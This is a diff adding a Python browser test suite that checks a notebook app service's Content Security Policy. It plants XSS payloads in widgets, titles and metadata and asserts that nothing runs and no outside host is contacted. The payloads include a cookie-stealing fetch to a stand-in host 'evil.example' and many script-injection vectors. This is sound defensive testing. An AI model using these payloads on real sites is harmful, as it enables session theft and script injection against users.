@@ -1,0 +1,180 @@
+"""What data, titles and the state of widgets can do in a real browser: nothing. Every value here means harm."""
+
+import json
+import shutil
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import ClassVar
+
+import nbformat
+import pytest
+from playwright.sync_api import sync_playwright
+
+from apps_service import PREFIX, served_apps
+from planted_insights import KERNEL, Planting
+
+pytestmark = pytest.mark.browser
+FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
+#: Each tries to say that it ran, to ask another host, or to lead somewhere else.
+RUN = "document.documentElement.dataset.taken='yes';fetch('http://evil.example/'+document.cookie)"
+HARM = f"""
+<script>{RUN}</script><script src="http://evil.example/x.js"></script><script src="data:text/javascript,{RUN}"></script>
+<img src=x onerror="{RUN}"><svg onload="{RUN}"></svg><body onload="{RUN}"><details open ontoggle="{RUN}">x</details>
+<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src="javascript:parent.{RUN}"></iframe>
+<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object>
+<embed src="http://evil.example/e"><base href="http://evil.example/">
+<link rel=stylesheet href="http://evil.example/s.css"><style>@import url(http://evil.example/i.css);</style>
+<style>body {{ background: url(http://evil.example/b.png) }}</style>
+<style>@font-face {{ font-family: f; src: url(http://evil.example/f) }} p {{ font-family: f }}</style>
+<img src="http://evil.example/pixel"><video src="http://evil.example/v" autoplay></video>
+<a id="lure" href="javascript:{RUN}">a link</a>
+<form id="form" action="http://evil.example/form" method="post"><button id="send">Send</button></form>
+<p>END-OF-HARM</p>
+"""
+CELL = """
+import ipywidgets as w
+from IPython.display import HTML, Javascript, Markdown, display
+from pathlib import Path
+harm = {harm!r}
+run = {run!r}
+box = w.HTML(value=harm, description=harm, placeholder=harm)
+said = w.Text(value="nothing", description="said")
+echo = w.HTML(value="")
+said.observe(lambda change: setattr(echo, "value", change["new"]), names="value")
+display(box, w.HTMLMath(value=harm), w.Label(value=harm), w.Dropdown(options=[harm, "b"], description=harm))
+tabs = w.Accordion(children=[w.Label("x")]); tabs.set_title(0, harm)
+display(tabs, w.Button(description=harm, tooltip=harm), said, echo)
+display(HTML(harm), Javascript(run), Markdown(harm))
+svg = "<svg xmlns='http://www.w3.org/2000/svg' onload=\\"" + run + "\\"><script>" + run + "</script></svg>"
+display({{"image/svg+xml": svg}}, raw=True)
+print("\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07<script>" + run + "</script>")
+w.HTML("AT-THE-END")
+"""
+
+
+@pytest.fixture(scope="module")
+def service(tmp_path_factory):
+    with served_apps(tmp_path_factory.mktemp("apps")) as running:
+        planting = Planting(running.settings)
+        planting.insight("harm", CELL.format(harm=HARM, run=RUN), ["public"])
+        notebook = planting.hub.state / "insights" / "harm" / "1" / "app.ipynb"
+        read = nbformat.read(notebook, 4)
+        read.metadata = {**KERNEL, "title": f"</title>{HARM}", "lang": f'en"><script>{RUN}</script>'}
+        nbformat.write(read, notebook)
+        with planting.store() as store:
+            store.mark_stale("harm", HARM)
+        yield running
+
+
+class Evil(BaseHTTPRequestHandler):
+    """Another site, which notes who asks it for anything."""
+
+    asked: ClassVar[list[str]] = []
+    page = ""
+
+    def do_GET(self):
+        self.asked.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(self.page.encode() if self.path == "/own" else b"")
+
+    def do_POST(self):
+        self.do_GET()
+
+    def log_message(self, *_):
+        """Say nothing."""
+
+
+@pytest.fixture(scope="module")
+def evil(service):
+    Evil.page = _framing(service)
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    yield server.server_port
+    server.shutdown()
+    thread.join(10)
+    server.server_close()
+
+
+@pytest.fixture(scope="module")
+def tab(service, evil):
+    path = shutil.which("chromium")
+    assert path, "Chromium is not installed: apt-get install chromium"
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(
+            executable_path=path, args=[*FLAGS, f"--host-resolver-rules=MAP evil.example 127.0.0.1:{evil}"]
+        )
+        context = browser.new_context()
+        page = context.new_page()
+        page.refused = []
+        page.on("console", lambda message: page.refused.append(message.text))
+        page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
+        page.goto(f"{service.address}{PREFIX}harm/")
+        page.get_by_text("AT-THE-END").wait_for(timeout=90_000)
+        yield page
+        browser.close()
+
+
+def taken(page):
+    return page.evaluate("document.documentElement.dataset.taken || ''")
+
+
+def test_nothing_of_the_data_runs_and_no_other_host_is_asked(tab, service):
+    assert "END-OF-HARM" in tab.content()
+    assert taken(tab) == ""
+    assert tab.url == f"{service.address}{PREFIX}harm/"
+    assert Evil.asked == []
+    assert any("Content Security Policy" in text for text in tab.refused), "the policy had nothing to refuse"
+
+
+def test_what_a_viewer_types_runs_no_more_than_the_data(tab):
+    """The state of a widget that comes back from the kernel as HTML."""
+    tab.get_by_label("said").fill(HARM.replace("\n", " ").replace("END-OF-HARM", "ECHO-OF-HARM"))
+    tab.get_by_label("said").press("Enter")
+    tab.get_by_text("ECHO-OF-HARM").first.wait_for(timeout=30_000)
+    assert (taken(tab), Evil.asked) == ("", [])
+
+
+def test_the_policy_holds_on_every_kind_of_answer(tab, service):
+    for path in ("harm/", "harm/voila/static/voila.js", "harm/nothing", "no-such-insight/", "", "harm/?theme=dark"):
+        answer = tab.context.request.get(f"{service.address}{PREFIX}{path}", max_redirects=0)
+        policy = answer.headers["content-security-policy"]
+        assert "default-src 'none'" in policy
+        assert "unsafe-eval" not in policy
+        scripts = next(part for part in policy.split("; ") if part.startswith("script-src"))
+        assert scripts == f"script-src {service.address.removeprefix('http://')}{PREFIX}"
+        assert answer.headers["x-content-type-options"] == "nosniff"
+
+
+def test_a_lure_and_a_form_lead_nowhere(tab, service):
+    where = tab.url
+    tab.locator("#lure").first.dispatch_event("click")
+    tab.locator("#send").first.dispatch_event("click")
+    tab.wait_for_timeout(300)
+    assert (tab.url, taken(tab), Evil.asked) == (where, "", [])
+
+
+def test_the_page_of_another_site_cannot_frame_an_app_or_read_it(tab, service):
+    page = tab.context.new_page()
+    page.goto("http://evil.example/own")
+    assert "/own" in Evil.asked  # it can be reached, so that it was not asked before means something
+    page.wait_for_function("window.tried === 2")
+    found = json.loads(page.evaluate("JSON.stringify(window.found)"))
+    assert found == {"fetched": "refused", "channel": "refused"}
+    assert not [frame for frame in page.frames[1:] if frame.url.startswith(service.address)]
+    page.close()
+
+
+def _framing(service):
+    address = f"{service.address}{PREFIX}harm/"
+    channel = address.replace("http", "ws", 1) + "api/kernels/00000000-0000-0000-0000-000000000007/channels"
+    return f"""<iframe src="{address}"></iframe><script>
+      window.found = {{}}; window.tried = 0;
+      const is = (name, what) => {{ window.found[name] = what; window.tried += 1; }};
+      fetch("{address}", {{credentials: "include"}}).then(() => is("fetched", "read"), () => is("fetched", "refused"));
+      const socket = new WebSocket("{channel}");
+      socket.onopen = () => is("channel", "open");
+      socket.onerror = () => is("channel", "refused");
+    </script>"""
